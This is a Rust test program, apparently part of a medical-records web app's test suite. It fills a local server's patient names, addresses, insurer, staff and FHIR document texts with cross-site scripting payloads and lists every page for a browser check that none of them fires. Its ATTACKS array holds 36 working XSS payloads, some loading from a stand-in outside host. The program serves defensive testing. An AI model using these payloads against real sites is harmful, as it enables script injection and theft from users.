//! A town in which every text that somebody from outside can choose is an attack on the
//! browser: names, kana, addresses, insurers, facilities, staff and documents. It serves on
//! loopback, for `cargo xtask test` to look at every page of it.
//!
//! What an attack would do if it worked is one of three things, all of which can be seen from
//! outside: ask `--elsewhere` for something, open a dialog, or name the window `taken`.
//!
//! Source: identity-security T16.

use std::path::PathBuf;

use access::{Gate, session::Whose};
use anyhow::Context;
use clap::Parser;
use kernel::{id::PersonId, time::JstDate};
use serde_json::{Value, json};
use store::caller::Role;
use tasuki::program::{Running, Ways};
use testkit::{
    population::{Life, demo},
    seed,
};

mod place;
use place::{session_of, write};

/// How to serve.
#[derive(Parser)]
struct Line {
    /// `hostile`, the name under which the caller knows this program.
    name: String,
    /// Where no browser may ever ask for anything: `127.0.0.1:PORT`.
    #[arg(long)]
    elsewhere: String,
    /// When ready, write address, pages and attacks into this file, as JSON.
    #[arg(long)]
    ready_file: PathBuf,
}

/// Attacks on a browser; `E` stands for the address elsewhere, `X` for what takes the window.
const ATTACKS: [&str; 36] = [
    "<script>X</script>",
    "\"><script>X</script>",
    "'><script src=//E/1></script>",
    "</title><script>X</script>",
    "</textarea><script>X</script>",
    "</script><script>X</script>",
    "<img src=//E/2>",
    "<img src=x onerror=X>",
    "<IMG SRC=x ONERROR=X>",
    "<img/src=x/onerror=X>",
    "\" onmouseover=\"X\" x=\"",
    "' autofocus onfocus='X' x='",
    "\" autofocus onfocus=X x=\"",
    "<svg onload=X>",
    "<svg><script>X</script></svg>",
    "<svg><animate onbegin=X attributeName=x dur=1s>",
    "<math><mtext><script>X</script></mtext></math>",
    "<iframe src=//E/3></iframe>",
    "<iframe srcdoc='<script>parent.X</script>'></iframe>",
    "<object data=//E/4></object>",
    "<embed src=//E/5>",
    "<link rel=stylesheet href=//E/6>",
    "<style>@import '//E/7';</style>",
    "<style>body{background:url(//E/8)}</style>",
    "\" style=\"background:url(//E/9)\"",
    "<meta http-equiv=refresh content='0;url=//E/10'>",
    "<base href=//E/>",
    "<form action=//E/11><input type=submit autofocus></form>",
    "<details open ontoggle=X>",
    "<video autoplay onloadstart=X><source src=//E/12></video>",
    "<input autofocus onfocus=X>",
    "<a href=javascript:X>開く</a>",
    "<template><script>X</script></template>",
    "<!--><script>X</script>-->",
    "&lt;script&gt;X&lt;/script&gt;&#60;script&#62;X&#60;/script&#62;",
    "\u{ff1c}script\u{ff1e}X\u{ff1c}/script\u{ff1e}\u{202e}<script>X</script>",
];

/// Attack `number`, counted round and round.
fn attack(elsewhere: &str, number: usize) -> String {
    let attack = ATTACKS.iter().cycle().nth(number % ATTACKS.len());
    let taken = "(window.name='taken',alert(1))";
    let attack = attack.copied().unwrap_or_default().replace('X', taken);
    attack.replace("//E", &format!("http://{elsewhere}"))
}

/// All of them in one text.
fn all_attacks(elsewhere: &str) -> String {
    let all: Vec<String> = (0..ATTACKS.len()).map(|n| attack(elsewhere, n)).collect();
    all.join(" ")
}

/// Puts attacks in place of a document's free texts; `next` counts them.
fn poison(value: &mut Value, elsewhere: &str, next: &mut usize) {
    match value {
        Value::Array(items) => items
            .iter_mut()
            .for_each(|item| poison(item, elsewhere, next)),
        Value::Object(members) => {
            for (name, member) in members.iter_mut() {
                let is_free = ["text", "display", "description"].contains(&name.as_str());
                match member {
                    Value::String(text) if is_free => {
                        *text = attack(elsewhere, *next);
                        *next += 1;
                    }
                    other => poison(other, elsewhere, next),
                }
            }
        }
        _ => {}
    }
}

fn enroll(gate: &Gate, life: &Life, elsewhere: &str) -> anyhow::Result<PersonId> {
    let mut profile = seed::profile(life);
    profile.name = all_attacks(elsewhere);
    profile.kana = all_attacks(elsewhere);
    profile.address = all_attacks(elsewhere);
    let mut coverages = seed::coverages(life);
    for coverage in &mut coverages {
        coverage.insurer_name = all_attacks(elsewhere);
    }
    write(gate, move |call| {
        let id = PersonId::random(call.rng());
        registry::ops::enroll(call, id, &profile, &coverages)?;
        Ok(id)
    })
}

/// Sends JSON with a record system's token; status and answer.
fn post(base: &str, path: &str, token: &str, kind: &str, body: &Value) -> anyhow::Result<Value> {
    let agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .proxy(None)
        .build()
        .new_agent();
    let mut answer = agent
        .post(format!("{base}{path}"))
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", kind)
        .send(body.to_string())?;
    let text = answer.body_mut().read_to_string()?;
    anyhow::ensure!(answer.status().is_success(), "{path}: {text}");
    Ok(serde_json::from_str(&text).unwrap_or(Value::Null))
}

/// The patient's documents, with an attack in place of each free text.
fn register(base: &str, token: &str, today: JstDate, elsewhere: &str) -> anyhow::Result<()> {
    let mut number = 0;
    for bundle in demo::bundles(today) {
        let mut document: Value = serde_json::from_slice(&bundle.json)?;
        // The patient's own part names the person, and is compared with the register.
        let entries = document.pointer_mut("/entry").and_then(Value::as_array_mut);
        for entry in entries
            .context("a Bundle without entries")?
            .iter_mut()
            .skip(1)
        {
            poison(entry, elsewhere, &mut number);
        }
        let kind = "application/fhir+json";
        post(base, "/fhir/Bundle/$register", token, kind, &document)?;
    }
    anyhow::ensure!(number > ATTACKS.len(), "only {number} texts in documents");
    Ok(())
}

/// The patient comes: the visit.
fn come(base: &str, token: &str, life: &Life, today: JstDate) -> anyhow::Result<String> {
    let coverage = life.coverage_on(today).context("not insured")?;
    let question = json!({
        "insurer_number": coverage.insurer.number.as_str(),
        "symbol": coverage.symbol.as_str(),
        "number": coverage.number.as_str(),
        "branch": coverage.branch.as_ref().map(|branch| branch.as_str()),
        "birth_date": life.birth.to_string(),
    });
    let kind = "application/json";
    let answer = post(base, "/api/v1/eligibility/checks", token, kind, &question)?;
    let visit = answer.get("visit").and_then(Value::as_str);
    Ok(visit.context("no visit")?.to_owned())
}

/// Fills the town; the pages worth a look.
fn fill(running: &Running, elsewhere: &str) -> anyhow::Result<Vec<Value>> {
    let (base, gate) = (&running.base, &running.app.gate);
    let today = running.app.gate.now().jst_date();
    let life = demo::patient(today);
    let person = enroll(gate, &life, elsewhere)?;
    let name = all_attacks(elsewhere);
    let mut hospital = demo::hospital();
    hospital.name.clone_from(&name);
    let home = write(gate, move |call| seed::facility(call, &hospital))?;
    let staff = |role: Role| {
        let (facility, home, name) = (home.id, home.clone(), name.clone());
        let staff = write(gate, move |call| {
            seed::account(call, &home, role.word(), &name, role, "not a hash")
        })?;
        session_of(gate, Whose::Staff(facility, staff))
    };
    let (doctor, clerk) = (staff(Role::Doctor)?, staff(Role::Clerk)?);
    let administrator = staff(Role::Administrator)?;
    // The name of a client is short: one attack.
    let mut owned = home.clone();
    owned.name = attack(elsewhere, 0);
    let token = write(gate, move |call| {
        let client = seed::record_system(call, &owned, None)?;
        Ok(access::token::issue(
            call,
            &client,
            &client.terms.scopes,
            None,
        )?)
    })?;
    let token = token.reveal();
    register(base, token, today, elsewhere)?;
    let visit = come(base, token, &life, today)?;
    let facility = home.id;
    write(gate, move |call| {
        access::consent::give(
            call,
            person,
            facility,
            &access::consent::Category::ALL,
            "pin",
        )
    })?;
    let patient = session_of(gate, Whose::Patient(person))?;
    let mut shots = vec![
        json!({ "name": "record", "path": format!("/visits/{visit}/record"), "cookie": doctor }),
        json!({ "name": "visit", "path": format!("/visits/{visit}"), "cookie": clerk }),
        json!({ "name": "consent", "path": format!("/visits/{visit}/consent"), "cookie": clerk }),
    ];
    shots.extend(plain_pages(running, &doctor, &administrator, &patient));
    Ok(shots)
}

/// Every page without a part, as everybody who might see something there; the record was looked
/// at before, so that it stands in the histories.
fn plain_pages(running: &Running, doctor: &str, administrator: &str, patient: &str) -> Vec<Value> {
    let mut shots = Vec::new();
    for route in &running.app.routes {
        let is_page = matches!(route.face, web::Face::Page | web::Face::Portal);
        if route.method != web::Method::Get || !is_page || route.path.contains('{') {
            continue;
        }
        for (who, cookie) in [
            ("doctor", Some(doctor)),
            ("administrator", Some(administrator)),
            ("patient", Some(patient)),
            ("nobody", None),
        ] {
            let is_portal = route.path.starts_with("/portal");
            if cookie.is_none() || is_portal == (who == "patient") {
                let name = format!("{who}{}", route.path.replace('/', "-"));
                shots.push(json!({ "name": name, "path": route.path, "cookie": cookie }));
            }
        }
    }
    shots
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let line = Line::parse();
    let town = place::empty(&line.name)?;
    let (running, _folder) = town.listen(Ways::default()).await?;
    let shots = tokio::task::block_in_place(|| fill(&running, &line.elsewhere))?;
    let attacks: Vec<String> = (0..ATTACKS.len())
        .map(|number| attack(&line.elsewhere, number))
        .collect();
    let ready = json!({ "base": running.base, "shots": shots, "attacks": attacks });
    place::say_ready(&line.ready_file, &ready)?;
    running.server.await??;
    Ok(())
}
